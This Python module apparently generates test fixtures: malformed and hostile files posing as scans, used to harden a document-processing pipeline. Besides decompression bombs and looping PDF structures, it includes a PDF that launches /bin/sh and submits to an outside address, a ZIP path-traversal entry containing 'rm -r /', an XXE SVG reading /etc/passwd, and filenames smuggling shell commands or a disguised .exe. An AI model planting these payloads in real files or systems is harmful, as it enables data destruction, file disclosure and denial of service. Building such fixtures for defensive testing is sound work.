"""Sixty-odd kinds of malformed or hostile file, made by code; nothing here was ever sent by anyone.

`KINDS` gives for each name a function that makes the file in a folder and says where it is.
"""

from __future__ import annotations

import io
import os
import random
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image, ImageDraw

Maker = Callable[[Path], Path]
KINDS: dict[str, Maker] = {}

A4 = (595, 842)


def kind(name: str, ending: str = "pdf") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Add what a function makes to the kinds, as a file with an ordinary name."""

    def add(make: Callable[[], bytes]) -> Callable[[], bytes]:
        def write(folder: Path) -> Path:
            file = folder / f"scan.{ending}"
            file.write_bytes(make())
            return file

        KINDS[name] = write
        return make

    return add


def placed(name: str) -> Callable[[Maker], Maker]:
    """Add a function that makes the file itself."""

    def add(make: Maker) -> Maker:
        KINDS[name] = make
        return make

    return add


# ------------------------------------------------------------------ good ones, to spoil


def page(width: int = 600, height: int = 850, seed: int = 1) -> Image.Image:
    """Draw a page of noise and lines."""
    image = Image.effect_noise((width, height), 12).point(lambda v: min(255, v + 110))
    pen, dice = ImageDraw.Draw(image), random.Random(seed)
    for _ in range(40):
        x, y = dice.randrange(width), dice.randrange(height)
        pen.line((x, y, x + 60, y + dice.randrange(8)), fill=20, width=3)
    return image


def saved(image: Image.Image, form: str, **how: Any) -> bytes:
    """Give a picture as the bytes of a file."""
    out = io.BytesIO()
    image.save(out, form, **how)
    return out.getvalue()


def pdf(
    *contents: bytes, fill: Callable[[pikepdf.Pdf], None] = lambda _: None, **how: Any
) -> bytes:
    """Make a PDF with a page for each content stream."""
    with pikepdf.new() as made:
        for each in contents:
            made.add_blank_page(page_size=A4).obj.Contents = made.make_stream(each)
        fill(made)
        out = io.BytesIO()
        made.save(out, **how)
    return out.getvalue()


def form(made: pikepdf.Pdf, content: bytes, **resources: Any) -> Any:
    """Make a form that a page can call."""
    stream = made.make_stream(content, BBox=[0, 0, *A4])
    stream.Type, stream.Subtype = Name.XObject, Name.Form
    stream.Resources = Dictionary(**resources)
    return made.make_indirect(stream)


def picture(made: pikepdf.Pdf, data: bytes, size: tuple[int, int], **keys: Any) -> Any:
    """Make a picture that says what it likes of itself."""
    stream = Stream(made, data)
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height = size
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 8
    for key, value in keys.items():
        stream[f"/{key}"] = value
    return made.make_indirect(stream)


def pdf_of_picture(data: bytes, size: tuple[int, int], **keys: Any) -> bytes:
    """Make a PDF of one page that is one picture."""

    def fill(made: pikepdf.Pdf) -> None:
        image = picture(made, data, size, **keys)
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))

    return pdf(b"q 595 0 0 842 0 0 cm /Im Do Q", fill=fill)


def raw_pdf(*objects: bytes, root: int = 1, prev: str = "") -> bytes:
    """Write a PDF by hand, wrong as it may be; `%XREF` in `prev` is where its table stands."""
    places = []
    out = bytearray(b"%PDF-1.7\n")
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    more = prev.replace("%XREF", str(table)).encode()
    out += b"trailer\n<< /Size %d /Root %d 0 R %b >>\n" % (len(objects) + 1, root, more)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


# ------------------------------------------------------------------ PDF: pages that never end


@kind("PDF: form that calls itself")
def _self_calling() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        me = form(made, b"/Me Do /Me Do")
        me.Resources = Dictionary(XObject=Dictionary(Me=me))
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Me=me))

    return pdf(b"/Me Do", fill=fill)


@kind("PDF: forms in forms, 10 to the 12th")
def _nested_forms() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        inner = form(made, b"0 g 0 0 9 9 re f")
        for _ in range(12):
            inner = form(made, b"/In Do " * 10, XObject=Dictionary(In=inner))
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(In=inner))

    return pdf(b"/In Do", fill=fill)


def _pattern(made: pikepdf.Pdf, content: bytes, step: float, **resources: Any) -> Any:
    tile = made.make_stream(content, BBox=[0, 0, 100, 100], XStep=step, YStep=step)
    tile.Type, tile.PatternType, tile.PaintType, tile.TilingType = Name.Pattern, 1, 1, 1
    tile.Resources = Dictionary(**resources)
    return made.make_indirect(tile)


@kind("PDF: patterns in patterns of tiny tiles")
def _tiling_bomb() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        inner = _pattern(made, b"1 0 0 rg 0 0 1 1 re f", 0.01)
        for _ in range(6):
            inner = _pattern(
                made, b"/Pattern cs /P scn 0 0 600 850 re f", 0.05, Pattern=Dictionary(P=inner)
            )
        made.pages[0].obj.Resources = Dictionary(Pattern=Dictionary(P=inner))

    return pdf(b"/Pattern cs /P scn 0 0 595 842 re f", fill=fill)


@kind("PDF: path of a million lines")
def _long_path() -> bytes:
    dice = random.Random(3)
    lines = b"".join(
        b"%d %d l\n" % (dice.randrange(595), dice.randrange(842)) for _ in range(1_000_000)
    )
    return pdf(b"0 0 m " + lines + b"b*", compress_streams=True)


@kind("PDF: strokes dashed a million times")
def _dashes() -> bytes:
    return pdf(b"[0.0001 0.0001] 0 d 0.1 w " + b"0 0 m 595 842 l S " * 200)


@kind("PDF: packed twice, 120 MB of q")
def _double_flate() -> bytes:
    twice = zlib.compress(zlib.compress(b"q " * 60_000_000, 1), 9)

    def fill(made: pikepdf.Pdf) -> None:
        stream = Stream(made, twice)
        stream.Filter = Array([Name.FlateDecode] * 2)
        made.pages[0].obj.Contents = made.make_indirect(stream)

    return pdf(b"", fill=fill)


@kind("PDF: tower of three million q")
def _q_tower() -> bytes:
    return pdf(b"q " * 3_000_000 + b"0 g 0 0 9 9 re f", compress_streams=True)


@kind("PDF: letters that draw themselves")
def _type3() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type3))
        glyph = made.make_stream(b"1000 0 0 0 750 750 d1 BT /F 1 Tf (aaaaaaaaaa) Tj ET")
        font.FontBBox, font.FontMatrix = Array([0, 0, 750, 750]), Array([0.001, 0, 0, 0.001, 0, 0])
        font.CharProcs, font.FirstChar, font.LastChar = Dictionary(a=glyph), 97, 97
        font.Encoding = Dictionary(Type=Name.Encoding, Differences=Array([97, Name("/a")]))
        font.Widths, font.Resources = Array([1000]), Dictionary(Font=Dictionary(F=font))
        made.pages[0].obj.Resources = Dictionary(Font=Dictionary(F=font))

    return pdf(b"BT /F 40 Tf 50 400 Td (aaaaaaaaaa) Tj ET", fill=fill)


@kind("PDF: masks that mask each other")
def _soft_masks() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        group = form(made, b"/G gs 0 0 595 842 re f")
        group.Group = Dictionary(S=Name.Transparency, CS=Name.DeviceGray)
        state = made.make_indirect(
            Dictionary(Type=Name.ExtGState, SMask=Dictionary(S=Name.Luminosity, G=group))
        )
        group.Resources = Dictionary(ExtGState=Dictionary(G=state))
        made.pages[0].obj.Resources = Dictionary(ExtGState=Dictionary(G=state))

    return pdf(b"/G gs 0 0 595 842 re f", fill=fill)


@kind("PDF: shading whose function never ends")
def _shading() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        count = b"{ " + b"dup mul sin cos exch " * 20_000 + b" pop 0.5 }"
        function = made.make_stream(count, FunctionType=4, Domain=[0, 1, 0, 1], Range=[0, 1])
        shading = Dictionary(
            ShadingType=1, ColorSpace=Name.DeviceGray, Function=made.make_indirect(function)
        )
        shading.Matrix = Array([595, 0, 0, 842, 0, 0])
        made.pages[0].obj.Resources = Dictionary(Shading=Dictionary(S=shading))

    return pdf(b"/S sh", fill=fill)


# ------------------------------------------------------------------ PDF: lies and loops


@kind("PDF: page of 14,400 points")
def _huge_page() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.MediaBox = Array([0, 0, 14_400, 14_400])

    return pdf(b"0 g 0 0 9 9 re f", fill=fill)


@kind("PDF: page in units of a kilometre")
def _user_unit() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.UserUnit = 2_834_645

    return pdf(b"0 g 0 0 9 9 re f", fill=fill)


@kind("PDF: page without any size")
def _no_page() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.MediaBox = Array([5, 5, 5, -9e30])

    return pdf(b"0 g 0 0 9 9 re f", fill=fill)


@kind("PDF: picture that says it is huge")
def _huge_picture() -> bytes:
    return pdf_of_picture(b"x", (20_000, 20_000), Filter=Name.DCTDecode)


@kind("PDF: picture that says it is tiny")
def _tiny_picture() -> bytes:
    data = zlib.compress(bytes(400_000_000), 1)
    return pdf_of_picture(data, (8, 8), Filter=Name.FlateDecode)


@kind("PDF: inline picture that says it is huge")
def _inline() -> bytes:
    return pdf(b"q 595 0 0 842 0 0 cm BI /W 60000 /H 60000 /BPC 8 /CS /G ID xxxx\nEI Q")


@kind("PDF: JBIG2 of rubbish")
def _jbig2() -> bytes:
    junk = random.Random(1).randbytes(5000)
    head = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", 9000, 2500, 0, 0, 0, 0)
    data = head + struct.pack(">IBBBI", 1, 38, 0, 1, len(junk)) + junk
    return pdf_of_picture(data, (9000, 2500), Filter=Name.JBIG2Decode, BitsPerComponent=1)


@kind("PDF: JPEG 2000 of rubbish")
def _jpx() -> bytes:
    good = saved(page(400, 500), "JPEG2000")
    spoiled = bytearray(good)
    for at in range(120, len(spoiled), 37):
        spoiled[at] ^= 0x5A
    return pdf_of_picture(bytes(spoiled), (400, 500), Filter=Name.JPXDecode)


@kind("PDF: fax of rubbish")
def _fax() -> bytes:
    how = {"Filter": Name.CCITTFaxDecode, "BitsPerComponent": 1}
    parms = Dictionary(K=-1, Columns=9000, Rows=7000)
    return pdf_of_picture(
        random.Random(2).randbytes(90_000), (9000, 7000), DecodeParms=parms, **how
    )


@kind("PDF: font of rubbish")
def _font() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        file = made.make_stream(b"\0\1\0\0\xff\xff" + random.Random(4).randbytes(40_000))
        about = Dictionary(Type=Name.FontDescriptor, FontName=Name.Bad, FontFile2=file, Flags=4)
        font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Bad)
        font.FontDescriptor, font.FirstChar, font.LastChar = about, 0, 255
        font.Widths = Array([500] * 256)
        made.pages[0].obj.Resources = Dictionary(Font=Dictionary(F=font))

    return pdf(b"BT /F 40 Tf 50 400 Td (words that lie) Tj ET", fill=fill)


@kind("PDF: page tree that goes in a circle")
def _tree_circle() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 /Parent 3 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>",
    )


@kind("PDF: 100,000 pages")
def _many_pages() -> bytes:
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    kids = b" ".join(b"%d 0 R" % n for n in range(3, 100_003))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 100000 /Kids [%b] >>" % kids,
        *[leaf] * 100_000,
    )


@kind("PDF: one page named 200,000 times")
def _same_page() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 200000 /Kids [%b] >>" % (b"3 0 R " * 200_000),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


@kind("PDF: table of places that points at itself")
def _xref_loop() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        prev="/Prev %XREF",
    )


@kind("PDF: stream as long as itself says")
def _length_loop() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 4 0 R /Filter [/FlateDecode 4 0 R] >>\nstream\nxx\nendstream",
    )


@kind("PDF: 200,000 lists in lists")
def _deep() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Deep %b%b >>" % (b"[" * 200_000, b"]" * 200_000),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )


@kind("PDF: 20,000 inputs, each in a circle")
def _inputs() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        circle = made.make_indirect(Dictionary(FT=Name.Tx, V="x" * 1000))
        circle.Parent = circle
        same: dict[str, Any] = {"Subtype": Name.Widget, "Parent": circle, "Rect": [0, 0, 9, 9]}
        fields = [made.make_indirect(Dictionary(T=f"f{n}", **same)) for n in range(20_000)]
        made.pages[0].obj.Annots = Array(fields)
        made.Root.AcroForm = Dictionary(Fields=Array(fields))

    return pdf(b"", fill=fill)


@kind("PDF: locked with a password")
def _locked() -> bytes:
    return pdf(b"0 g 9 9 99 99 re f", encryption=pikepdf.Encryption(owner="a", user="b"))


@kind("PDF: locked against changes only")
def _locked_open() -> bytes:
    return pdf(b"0 g 9 9 99 99 re f", encryption=pikepdf.Encryption(owner="a", user=""))


@kind("PDF: JavaScript")
def _javascript() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="while (true) app.alert('x');")

    return pdf(b"0 g 9 9 99 99 re f", fill=fill)


@kind("PDF: starts a program, calls an address")
def _launch() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.Launch, F="/bin/sh")
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 595, 842])
        link.A = Dictionary(S=Name.URI, URI="http://192.0.2.1/")
        made.pages[0].obj.Annots = Array([link])
        made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="http://192.0.2.1/"))

    return pdf(b"0 g 9 9 99 99 re f", fill=fill)


@kind("PDF: with files inside")
def _embedded() -> bytes:
    def fill(made: pikepdf.Pdf) -> None:
        made.attachments["run.exe"] = b"MZ" + bytes(100_000)

    return pdf(b"0 g 9 9 99 99 re f", fill=fill)


@kind("PDF: cut short")
def _cut_pdf() -> bytes:
    whole = saved(page(), "PDF", save_all=True, append_images=[page(seed=2)] * 2)
    return whole[: len(whole) * 6 // 10]


# ------------------------------------------------------------------ PNG


def chunk(name: bytes, body: bytes) -> bytes:
    """Write a chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 0) -> bytes:
    """Write a PNG whose header says what it likes."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join((chunk(b"IHDR", header), *chunks, chunk(b"IEND", b"")))


def _idat(size: int) -> bytes:
    return chunk(b"IDAT", zlib.compress(bytes(size), 1))


@kind("PNG: says it is huge", "png")
def _png_huge() -> bytes:
    return png(200_000, 200_000, _idat(100))


@kind("PNG: says it is tiny", "png")
def _png_tiny() -> bytes:
    return png(1, 1, _idat(200_000_000))


@kind("PNG: says more than it holds", "png")
def _png_short() -> bytes:
    return png(7_000, 9_000, _idat(500))


@kind("PNG: 63 million pixels of 8 bytes", "png")
def _png_heavy() -> bytes:
    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(bytes(1 + 8 * 7000)) for _ in range(9000)) + packer.flush()
    return png(7_000, 9_000, chunk(b"IDAT", rows), depth=16, colour=6)


@kind("PNG: zTXt of 500 MB", "png")
def _ztxt() -> bytes:
    body = b"Comment\0\0" + zlib.compress(bytes(500_000_000), 1)
    return png(60, 80, chunk(b"zTXt", body), _idat(80 * 61))


@kind("PNG: a thousand iTXt of 1 MB", "png")
def _itxt() -> bytes:
    body = b"Comment\0\1\0\0\0" + zlib.compress(b"x" * 1_000_000, 9)
    return png(60, 80, *[chunk(b"iTXt", body)] * 1000, _idat(80 * 61))


@kind("PNG: colour profile of 300 MB", "png")
def _iccp() -> bytes:
    body = b"icc\0\0" + zlib.compress(bytes(300_000_000), 1)
    return png(60, 80, chunk(b"iCCP", body), _idat(80 * 61))


@kind("PNG: moving, 3,000 pictures", "png")
def _apng() -> bytes:
    frames = []
    for n in range(3000):
        about = struct.pack(">IIIIIHHBB", 2 * n, 60, 80, 0, 0, 1, 100, 0, 0)
        data = struct.pack(">I", 2 * n + 1) + zlib.compress(bytes(80 * 61))
        frames += [chunk(b"fcTL", about), chunk(b"fdAT", data)]
    return png(60, 80, chunk(b"acTL", struct.pack(">II", 3000, 0)), _idat(80 * 61), *frames)


@kind("PNG: cut short", "png")
def _cut_png() -> bytes:
    whole = saved(page(), "PNG")
    return whole[: len(whole) // 2]


# ------------------------------------------------------------------ JPEG


@kind("JPEG: says it is huge", "jpg")
def _jpeg_huge() -> bytes:
    return _resized(saved(page(), "JPEG"), 65_500, 65_500)


@kind("JPEG: says it is tiny", "jpg")
def _jpeg_tiny() -> bytes:
    return _resized(saved(page(), "JPEG"), 1, 1)


def _resized(data: bytes, width: int, height: int, marker: bytes = b"\xff\xc0") -> bytes:
    at = data.index(marker) + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


@kind("JPEG: thousands of scans", "jpg")
def _scans() -> bytes:
    whole = saved(Image.new("L", (6000, 4000), 128), "JPEG", progressive=True)
    first = whole.index(b"\xff\xda")
    last = whole.index(b"\xff\xda", first + 2)
    return whole[:first] + whole[first:last] * 3000 + whole[last:]


@kind("JPEG: progressive, 63 million pixels", "jpg")
def _progressive() -> bytes:
    whole = saved(Image.new("RGB", (4000, 4000), (250, 9, 99)), "JPEG", progressive=True)
    return _resized(whole, 7_900, 7_900, b"\xff\xc2")


@kind("JPEG: cut short", "jpg")
def _cut_jpeg() -> bytes:
    whole = saved(page(), "JPEG", quality=95)
    return whole[: len(whole) // 2]


@kind("JPEG: its camera's notes in a circle", "jpg")
def _exif() -> bytes:
    notes = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    notes += struct.pack("<I", 8)
    body = b"Exif\0\0" + notes
    whole = saved(page(), "JPEG")
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + whole[2:]


# ------------------------------------------------------------------ TIFF


def tiff(*entries: tuple[int, int, int, int], after: bytes = b"", next_at: int = 0) -> bytes:
    """Write a TIFF of one directory: tag, type, count, value each."""
    out = struct.pack("<2sHIH", b"II", 42, 8, len(entries))
    for each in sorted(entries):
        out += struct.pack("<HHII", *each)
    return out + struct.pack("<I", next_at) + after


def _plain(width: int, height: int, at: int, size: int, packing: int = 1) -> list[Any]:
    return [
        *((256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, packing)),
        *((262, 3, 1, 1), (273, 4, 1, at), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, size)),
    ]


_AFTER = 8 + 2 + 12 * 9 + 4


@kind("TIFF: says it is huge", "tif")
def _tiff_huge() -> bytes:
    return tiff(*_plain(100_000, 100_000, _AFTER, 9), after=b"x" * 9)


@kind("TIFF: says it is tiny", "tif")
def _tiff_tiny() -> bytes:
    return tiff(*_plain(1, 1, _AFTER, 9_000_000), after=bytes(9_000_000))


@kind("TIFF: strip of 4 GB", "tif")
def _tiff_strip() -> bytes:
    return tiff(*_plain(5_000, 7_000, _AFTER, 0xFFFFFFF0), after=b"x" * 900)


@kind("TIFF: packed bomb", "tif")
def _tiff_bomb() -> bytes:
    packed = zlib.compress(bytes(600_000_000), 1)
    return tiff(*_plain(7_000, 9_000, _AFTER, len(packed), packing=8), after=packed)


@kind("TIFF: tile larger than any memory", "tif")
def _tiff_tile() -> bytes:
    entries = [each for each in _plain(900, 900, _AFTER, 99) if each[0] not in (273, 278, 279)]
    tiles = [(322, 4, 1, 65_520), (323, 4, 1, 65_520), (324, 4, 1, 150), (325, 4, 1, 99)]
    return tiff(*entries, *tiles, after=bytes(300))


@kind("TIFF: pages in a circle", "tif")
def _tiff_circle() -> bytes:
    return tiff(*_plain(60, 80, _AFTER, 4800), after=bytes([200]) * 4800, next_at=8)


@kind("TIFF: 20,000 pages", "tif")
def _tiff_many() -> bytes:
    one = 2 + 12 * 9 + 4
    first = 8 + 16
    out = bytearray(struct.pack("<2sHI", b"II", 42, first) + bytes([200]) * 16)
    for n in range(20_000):
        out += struct.pack("<H", 9)
        for each in _plain(4, 4, 8, 16):
            out += struct.pack("<HHII", *each)
        out += struct.pack("<I", first + (n + 1) * one if n < 19_999 else 0)
    return bytes(out)


@kind("TIFF: a tag of a thousand million numbers", "tif")
def _tiff_tag() -> bytes:
    entries = [each for each in _plain(60, 80, _AFTER, 4800) if each[0] != 273]
    return tiff(*entries, (273, 4, 1_000_000_000, _AFTER), after=bytes(4800))


@kind("TIFF: cut short", "tif")
def _cut_tiff() -> bytes:
    whole = saved(page(), "TIFF", save_all=True, append_images=[page(seed=2)] * 2)
    return whole[: len(whole) // 2]


# ------------------------------------------------------------------ two things at once


@kind("PDF and ZIP in one")
def _pdf_zip() -> bytes:
    out = io.BytesIO(_javascript())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../x.sh", "rm -r /")
    return out.getvalue()


@kind("PNG and PDF in one", "png")
def _png_pdf() -> bytes:
    whole = saved(page(), "PNG")
    return whole[:33] + chunk(b"tEXt", b"x\0" + pdf(b"0 g 9 9 99 99 re f")) + whole[33:]


@kind("HTML and PDF in one")
def _html_pdf() -> bytes:
    return b"<html><script>alert(1)</script><!--\n" + pdf(b"0 g 9 9 99 99 re f") + b"-->"


@kind("GIF and PDF in one")
def _gif_pdf() -> bytes:
    return b"GIF89a" + bytes(20) + pdf(b"0 g 9 9 99 99 re f")


@kind("JPEG and ZIP in one", "jpg")
def _jpeg_zip() -> bytes:
    out = io.BytesIO()
    out.write(saved(page(), "JPEG"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("x", "x")
    return out.getvalue()


# ------------------------------------------------------------------ no scan at all


@kind("empty")
def _empty() -> bytes:
    return b""


@kind("one byte")
def _one() -> bytes:
    return b"%"


@kind("rubbish")
def _rubbish() -> bytes:
    return random.Random(9).randbytes(300_000)


@kind("ZIP", "zip")
def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scan.pdf", bytes(10_000_000))
    return out.getvalue()


@kind("program", "exe")
def _program() -> bytes:
    return b"MZ" + bytes(5000)


@kind("SVG that asks for a file", "svg")
def _svg() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    )


@kind("HTML", "html")
def _html() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


@kind("PostScript", "ps")
def _postscript() -> bytes:
    return b"%!PS-Adobe-3.0\n{ } loop\n"


@kind("GIF", "gif")
def _gif() -> bytes:
    return saved(page(), "GIF")


@kind("WebP", "webp")
def _webp() -> bytes:
    return saved(page(), "WEBP")


@kind("BMP", "bmp")
def _bmp() -> bytes:
    return saved(page(), "BMP")


@kind("HEIC", "heic")
def _heic() -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(2000)


# ------------------------------------------------------------------ no ordinary file


@placed("sparse file of 2 GB")
def _sparse(folder: Path) -> Path:
    file = folder / "scan.pdf"
    with file.open("wb") as out:
        out.write(b"%PDF-1.7\n")
        out.truncate(2 * 1024**3)
    return file


@placed("sparse file of 900 MB")
def _sparse_within(folder: Path) -> Path:
    file = folder / "scan.pdf"
    with file.open("wb") as out:
        out.write(b"%PDF-1.7\n")
        out.truncate(900 * 1024**2)
    return file


@placed("link to nowhere")
def _link(folder: Path) -> Path:
    file = folder / "scan.pdf"
    file.symlink_to(folder / "gone.pdf")
    return file


@placed("link to itself")
def _link_circle(folder: Path) -> Path:
    file = folder / "scan.pdf"
    file.symlink_to(file)
    return file


@placed("link to a device")
def _device(folder: Path) -> Path:
    file = folder / "scan.pdf"
    file.symlink_to("/dev/zero")
    return file


@placed("pipe with a name")
def _fifo(folder: Path) -> Path:
    file = folder / "scan.pdf"
    os.mkfifo(file)
    return file


@placed("socket")
def _socket(folder: Path) -> Path:
    file = folder / "scan.pdf"
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(str(file))
    return file


@placed("folder named like a scan")
def _folder(folder: Path) -> Path:
    file = folder / "scan.pdf"
    file.mkdir()
    return file


def _named(name: str) -> Maker:
    def make(folder: Path) -> Path:
        file = folder / name
        file.write_bytes(saved(page(200, 300), "PNG"))
        return file

    return make


KINDS |= {
    "name: two lines": _named("scan\nrm -r.pdf"),
    "name: control characters": _named("scan\x1b[2J\x07.pdf"),
    "name: runs from right to left": _named("scan‮fdp.exe"),
    "name: 250 letters": _named("s" * 246 + ".pdf"),
    "name: dots": _named("..scan..pdf"),
    "name: a dash first": _named("--help"),
    "name: not text": lambda folder: _named(os.fsdecode(b"scan\xff\xfe.pdf"))(folder),
}
